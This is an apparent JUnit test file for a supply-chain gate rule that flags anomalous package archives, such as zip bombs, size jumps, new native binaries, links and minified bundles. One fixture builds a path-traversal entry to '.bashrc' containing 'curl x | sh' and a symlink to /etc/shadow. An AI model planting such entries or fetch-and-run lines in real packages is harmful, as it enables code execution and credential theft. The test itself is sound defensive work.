package dev.sbomgate.rules;
import dev.sbomgate.finding.Finding;
import dev.sbomgate.finding.Severity;
import dev.sbomgate.finding.RuleId;

import static dev.sbomgate.rules.ContentRuleFixtures.approved;
import static dev.sbomgate.rules.ContentRuleFixtures.baseline;
import static dev.sbomgate.rules.ContentRuleFixtures.context;
import static dev.sbomgate.rules.ContentRuleFixtures.evidence;
import static dev.sbomgate.rules.ContentRuleFixtures.inspect;
import static dev.sbomgate.rules.RuleFixtures.component;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sbomgate.baseline.Baseline;
import dev.sbomgate.content.ArchiveFormat;
import dev.sbomgate.content.Archives;
import dev.sbomgate.content.ContentFixtures;
import dev.sbomgate.content.ContentSummary;
import dev.sbomgate.content.PackageKind;
import dev.sbomgate.model.Component;
import dev.sbomgate.policy.Policy;
import dev.sbomgate.policy.RuleParameter;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

class ContentAnomalyRuleTest {

    private static final Rule RULE = new ContentAnomalyRule();
    private static final Component OLD = component("pkg:npm/demo-http@1.14.0");
    private static final Component NEW = component("pkg:npm/demo-http@1.14.1");

    private static ContentSummary npm(byte[] bytes) {
        return inspect(bytes, "demo-http.tgz", "npm");
    }

    private static ContentSummary sized(long size) {
        return new ContentSummary(size, ArchiveFormat.TAR_GZIP, PackageKind.NPM, List.of(), List.of(), List.of(), List.of(),
                null);
    }

    private static List<Finding> update(ContentSummary before, ContentSummary after, Policy policy) {
        return RULE.evaluate(context(baseline(approved(OLD, before)), policy, evidence(NEW, "demo-http-1.14.1.tgz", after)));
    }

    private static List<Finding> update(ContentSummary before, ContentSummary after) {
        return update(before, after, Policy.defaults());
    }

    private static Policy parameter(RuleParameter parameter, Object value) {
        return new Policy("test", Map.of(), Map.of(parameter, value), List.of());
    }

    @Test
    @Timeout(value = 20, unit = TimeUnit.SECONDS)
    void anArchiveOverTheLimitsBlocksThoughTheRuleWarnsByDefault() {
        byte[] zeros = new byte[64 * 1024 * 1024];
        ContentSummary bomb = npm(Archives.tar().file("package/zeros.js", zeros).gzip());
        // Even on first use: the archive is hostile whatever the baseline says.
        List<Finding> findings = RULE.evaluate(context(null, evidence(NEW, "demo-http-1.14.1.tgz", bomb)));
        assertEquals(1, findings.size());
        Finding f = findings.get(0);
        assertEquals(Severity.BLOCK, f.severity());
        assertTrue(f.title().startsWith("archive exceeds limits: expands more than 200 times"), f.title());
        assertTrue(f.found().endsWith(" in demo-http-1.14.1.tgz; what was read before that point is recorded, the rest is unknown"),
                f.found());
        assertTrue(f.fix().contains("--accept 'CONTENT_ANOMALY:pkg:npm/demo-http@1.14.1'"), f.fix());
    }

    @Test
    void unsafeEntriesBlockAndAreListed() {
        ContentSummary traversal = npm(Archives.tar().file("package/package.json", "{}")
                .file("package/../../../.bashrc", "curl x | sh").symlink("package/l", "/etc/shadow").gzip());
        Finding f = update(npm(ContentFixtures.npmApproved()), traversal).get(0);
        assertEquals(Severity.BLOCK, f.severity());
        assertEquals("archive has unsafe entries: special files, absolute paths, ../ or links out of the archive", f.title());
        assertEquals("package/../../../.bashrc (climbs out of the archive with ..); package/l (a link to /etc/shadow, "
                + "outside the archive, never followed) (in demo-http-1.14.1.tgz)", f.found());
    }

    @Test
    void theHostileCasesFollowABlockOrInfoPolicyAsIs() {
        ContentSummary hostile = new ContentSummary(10, ArchiveFormat.ZIP, PackageKind.JAR, List.of(), List.of(),
                List.of("x (a link to /y, outside the archive, never followed)"), List.of(),
                "archive cannot be read: invalid LOC header");
        List<Finding> info = RULE.evaluate(context(null, ContentRuleFixtures.severity(RuleId.CONTENT_ANOMALY, Severity.INFO),
                evidence(NEW, "a.jar", hostile)));
        assertEquals(List.of(Severity.INFO, Severity.INFO), info.stream().map(Finding::severity).toList());
        List<Finding> block = RULE.evaluate(context(null, ContentRuleFixtures.severity(RuleId.CONTENT_ANOMALY, Severity.BLOCK),
                evidence(NEW, "a.jar", hostile)));
        assertEquals(List.of(Severity.BLOCK, Severity.BLOCK), block.stream().map(Finding::severity).toList());
        assertEquals("archive cannot be read: invalid LOC header", block.get(0).title());
    }

    @Test
    void aSizeChangeBeyondTheRatioEitherWayWarns() {
        List<Finding> larger = update(sized(1_000), sized(3_500));
        assertEquals(1, larger.size());
        assertEquals(Severity.WARN, larger.get(0).severity());
        assertEquals("artifact is 3.5 times larger than the approved version's", larger.get(0).title());
        assertEquals("within x3.0 of the approved version 1.14.0's 1,000 bytes (sizeRatio)", larger.get(0).expected());
        assertEquals("3,500 bytes (x3.5 larger)", larger.get(0).found());

        List<Finding> smaller = update(sized(10_000), sized(2_000));
        assertEquals("artifact is 5.0 times smaller than the approved version's", smaller.get(0).title());
    }

    @Test
    void aSizeChangeWithinTheRatioIsSilent() {
        assertEquals(List.of(), update(sized(1_000), sized(2_900)));
        assertEquals(List.of(), update(sized(1_000), sized(1_000)));
        assertEquals(List.of(), update(sized(1_000), sized(3_500), parameter(RuleParameter.CONTENT_ANOMALY_SIZE_RATIO, 4.0)));
        assertEquals(1, update(sized(1_000), sized(1_600), parameter(RuleParameter.CONTENT_ANOMALY_SIZE_RATIO, 1.5)).size());
    }

    @Test
    void aNewNativeBinaryWarns() {
        ContentSummary before = npm(ContentFixtures.npmApproved());
        ContentSummary after = npm(Archives.npm(ContentFixtures.NPM_APPROVED, "index.js", "1", "prebuilds/linux-x64/addon.node",
                ContentFixtures.elf()));
        Finding f = update(before, after).get(0);
        assertEquals(Severity.WARN, f.severity());
        assertEquals("new native binary: addon.node", f.title());
        assertEquals("the native binaries of the approved version 1.14.0: none", f.expected());
        assertEquals("prebuilds/linux-x64/addon.node", f.found());
    }

    @Test
    void aNativeBinaryTheApprovedVersionHadIsSilentWhereverItMoved() {
        ContentSummary before = npm(Archives.npm("{}", "build/Release/addon.node", ContentFixtures.elf()));
        ContentSummary after = npm(Archives.npm("{}", "prebuilds/addon.node", ContentFixtures.elf()));
        assertEquals(List.of(), update(before, after));
    }

    @Test
    void aNewLinkInsideTheArchiveWarnsAndAnApprovedOneIsSilent() {
        ContentSummary before = npm(Archives.tar().file("package/package.json", "{}").file("package/a.js", "1").gzip());
        ContentSummary after = npm(Archives.tar().file("package/package.json", "{}").file("package/a.js", "1")
                .symlink("package/lib/b.js", "../a.js").gzip());
        assertEquals(List.of(), after.unsafeEntries());
        Finding f = update(before, after).get(0);
        assertEquals(Severity.WARN, f.severity());
        assertEquals("new link inside the archive: package/lib/b.js -> ../a.js", f.title());
        assertEquals(List.of(), update(after, after));
    }

    @Test
    void aNewLargeMinifiedScriptWarns() {
        // Shai-Hulud added a multi-megabyte minified bundle.js to each package it republished.
        ContentSummary before = npm(ContentFixtures.npmApproved());
        ContentSummary after = npm(Archives.npm(ContentFixtures.NPM_APPROVED, "index.js", "1", "bundle.js",
                ContentFixtures.minifiedJs(20, 2_000)));
        Finding f = update(before, after).get(0);
        assertEquals(Severity.WARN, f.severity());
        assertEquals("new minified or packed script: bundle.js", f.title());
        assertTrue(f.found().startsWith("bundle.js (40,020 bytes, minified: lines of 2,001 bytes on average"), f.found());
    }

    @Test
    void smallOrAlreadyApprovedOpaqueScriptsAreSilent() {
        ContentSummary before = npm(Archives.npm("{}", "dist/app.min.js", ContentFixtures.minifiedJs(20, 2_000)));
        ContentSummary same = npm(Archives.npm("{}", "dist/app.min.js", ContentFixtures.minifiedJs(30, 2_000)));
        assertEquals(List.of(), update(before, same));
        // 20 KiB: recorded (over the 16 KiB floor), below the default 32 KiB threshold, above a 16 KiB one.
        ContentSummary small = npm(Archives.npm("{}", "dist/app.min.js", ContentFixtures.minifiedJs(20, 2_000),
                "dist/extra.min.js", ContentFixtures.minifiedJs(10, 2_000)));
        assertEquals(List.of(), update(before, small));
        assertEquals(1, update(before, small, parameter(RuleParameter.CONTENT_ANOMALY_OPAQUE_FILE_BYTES, 16_384L)).size());
    }

    @Test
    void withoutARecordedSummaryOnlyTheHostileCasesAreJudged() {
        ContentSummary after = npm(Archives.npm("{}", "bundle.js", ContentFixtures.minifiedJs(30, 2_000), "a.node",
                ContentFixtures.elf()));
        Baseline noSummary = baseline(approved(OLD, null));
        assertEquals(List.of(), RULE.evaluate(context(noSummary, evidence(NEW, "x.tgz", after))));
        assertEquals(List.of(), RULE.evaluate(context(null, evidence(NEW, "x.tgz", after))));
    }

    @Test
    void anApprovedNonArchiveIsComparedBySizeOnly() {
        ContentSummary after = npm(Archives.npm("{}", "a.node", ContentFixtures.elf()));
        List<Finding> findings = update(ContentSummary.notAnArchive(after.size() * 10), after);
        assertEquals(1, findings.size());
        assertTrue(findings.get(0).title().startsWith("artifact is 10.0 times smaller"), findings.get(0).title());
    }

    @Test
    void anUnchangedArtifactIsSilent() {
        ContentSummary same = npm(ContentFixtures.npmWithPostinstall());
        assertEquals(List.of(), update(same, same));
    }
}
